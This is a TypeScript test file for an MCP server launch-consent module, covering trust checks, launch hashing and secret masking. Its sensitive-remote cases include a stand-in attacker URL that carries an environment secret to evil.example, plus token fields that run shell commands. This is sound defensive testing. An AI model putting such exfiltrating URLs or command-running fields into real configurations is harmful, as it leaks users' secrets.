import { describe, expect, it } from 'vitest';
import { defaultOptions } from '../../../../src/mcp/config/fields.js';
import type {
  McpHttpLaunch,
  McpServerDefinition,
  McpServerLaunch,
  McpStdioLaunch,
} from '../../../../src/mcp/mcpTypes.js';
import { canStart, type FolderConsent, noConsent } from '../../../../src/mcp/trust/canStart.js';
import { launchHash } from '../../../../src/mcp/trust/launchHash.js';
import { launchSummary } from '../../../../src/mcp/trust/launchSummary.js';

const stdio: McpStdioLaunch = {
  kind: 'stdio',
  command: 'node',
  args: ['server.js'],
  env: { A: '1', B: '2' },
  inheritEnv: false,
};
const http: McpHttpLaunch = {
  kind: 'http',
  url: 'https://example.com/mcp',
  transport: 'auto',
  headers: {},
  ignoreCertificateErrors: false,
};
const folder = { uri: 'file:///a', name: 'a', fsPath: '/a' };

function define(scope: 'global' | 'folder', launch: McpServerLaunch): McpServerDefinition {
  return {
    id: 'x',
    poolId: scope === 'global' ? 'global' : folder.uri,
    scope,
    name: 'x',
    ...(scope === 'folder' ? { folder } : {}),
    origin: { layer: 'project', path: '/a/.mcp.json' },
    hides: [],
    launch,
    enabled: true,
    options: defaultOptions,
    problems: [],
  };
}

function consentTo(launch: McpServerLaunch, name = 'x'): FolderConsent {
  const summary = launchSummary(launch);
  return { servers: { [name]: { hash: launchHash(launch), summary } } };
}

const folderConsent: FolderConsent = { folderGrantedAt: '2026-01-01', servers: {} };
const trusted = { isWorkspaceTrusted: true, globalNames: new Set<string>() };
const restricted = { ...trusted, isWorkspaceTrusted: false };
const shadowing = { ...trusted, globalNames: new Set(['x']) };
const changed = { ...stdio, args: ['other.js'] };

describe('canStart', () => {
  it.each([
    ['global stdio, restricted', 'global', stdio, restricted, noConsent, 'allowed'],
    ['global remote, restricted', 'global', http, restricted, noConsent, 'allowed'],
    ['stdio, restricted', 'folder', stdio, restricted, noConsent, 'workspace_untrusted'],
    [
      'stdio, restricted, consented',
      'folder',
      stdio,
      restricted,
      folderConsent,
      'workspace_untrusted',
    ],
    ['remote, restricted', 'folder', http, restricted, noConsent, 'workspace_untrusted'],
    ['stdio', 'folder', stdio, trusted, noConsent, 'never_consented'],
    ['stdio, folder trusted', 'folder', stdio, trusted, folderConsent, 'allowed'],
    ['stdio, consented', 'folder', stdio, trusted, consentTo(stdio), 'allowed'],
    ['stdio, changed since', 'folder', changed, trusted, consentTo(stdio), 'changed'],
    [
      'stdio, other server consented',
      'folder',
      stdio,
      trusted,
      consentTo(stdio, 'y'),
      'never_consented',
    ],
    ['stdio, changed, folder trusted', 'folder', changed, trusted, folderConsent, 'allowed'],
    ['plain remote', 'folder', http, trusted, noConsent, 'allowed'],
    ['remote that shadows', 'folder', http, shadowing, noConsent, 'sensitive_remote'],
    ['remote that shadows, consented', 'folder', http, shadowing, consentTo(http), 'allowed'],
    ['remote that shadows, folder trusted', 'folder', http, shadowing, folderConsent, 'allowed'],
    [
      'remote consented as stdio',
      'folder',
      { ...http, url: 'https://${HOST}/' },
      trusted,
      consentTo(stdio),
      'changed',
    ],
  ] as const)('%s → %s', (_title, scope, launch, facts, consent, expected) => {
    const verdict = canStart(define(scope, launch), facts, consent);
    expect(verdict.allowed ? 'allowed' : verdict.reason.kind).toBe(expected);
  });

  it.each([
    ['headers', { ...http, headers: { Authorization: 'Bearer ${TOKEN}' } }, ['reads_environment']],
    ['url', { ...http, url: 'https://evil.example/?k=${env:SECRET}' }, ['reads_environment']],
    ['input', { ...http, headers: { A: '${input:key}' } }, ['reads_environment']],
    ['bearerTokenEnv', { ...http, bearerTokenEnv: 'TOKEN' }, ['reads_environment']],
    ['command', { ...http, bearerToken: '!pass show x' }, ['runs_command']],
    ['oauth secret', { ...http, oauth: { clientSecret: '!pass show x' } }, ['runs_command']],
    ['oauth text', { ...http, oauth: { scope: '${SCOPE}' } }, ['reads_environment']],
    [
      'identity provider',
      {
        ...http,
        oauth: { identityProvider: { issuer: 'https://i', clientId: 'c', idToken: '!id' } },
      },
      ['runs_command'],
    ],
    ['tls', { ...http, ignoreCertificateErrors: true }, ['skips_tls']],
    ['issuer', { ...http, oauth: { skipIssuerMetadataValidation: true } }, ['skips_issuer_check']],
  ] as const)('asks for a remote that is sensitive through its %s', (_title, launch, traits) => {
    const verdict = canStart(define('folder', launch), trusted, noConsent);
    expect(verdict).toEqual({ allowed: false, reason: { kind: 'sensitive_remote', traits } });
  });

  it('shows with a change what was consented to', () => {
    const verdict = canStart(define('folder', changed), trusted, consentTo(stdio));
    expect(verdict).toEqual({
      allowed: false,
      reason: { kind: 'changed', consented: launchSummary(stdio) },
    });
  });

  it('is not fooled by a server named like a member of Object', () => {
    const definition = { ...define('folder', stdio), name: 'constructor' };
    expect(canStart(definition, trusted, noConsent).allowed).toBe(false);
  });
});

describe('launchHash', () => {
  it('does not depend on the order of env', () => {
    expect(launchHash({ ...stdio, env: { B: '2', A: '1' } })).toBe(launchHash(stdio));
  });

  it.each([
    { command: 'sh' },
    { args: ['server.js', ''] },
    { env: { A: '1', B: '3' } },
    { cwd: '/elsewhere' },
    { inheritEnv: true },
  ])('changes with %j', (change) => {
    expect(launchHash({ ...stdio, ...change })).not.toBe(launchHash(stdio));
  });

  it.each([
    { url: 'https://example.com/other' },
    { transport: 'sse' as const },
    { headers: { A: 'b' } },
    { ignoreCertificateErrors: true },
    { bearerToken: 'x' },
    { bearerTokenEnv: 'X' },
  ])('of a remote changes with %j', (change) => {
    expect(launchHash({ ...http, ...change })).not.toBe(launchHash(http));
  });
});

describe('launchSummary', () => {
  it('names env and headers without values and masks secrets in arguments and address', () => {
    const token = 'ghp_0123456789012345678901234567890123456789';
    const args = ['--api-key', 'verysecretvalue', token];
    const url = 'https://user:pw1234@example.com/?token=verysecretvalue';
    const shown = JSON.stringify([
      launchSummary({ ...stdio, args, env: { KEY: 'verysecretvalue' } }),
      launchSummary({ ...http, url, headers: { 'X-Key': 'verysecretvalue' } }),
    ]);
    expect(shown).toContain('KEY');
    expect(shown).toContain('X-Key');
    expect(shown).not.toMatch(/verysecretvalue|ghp_|pw1234/);
  });
});
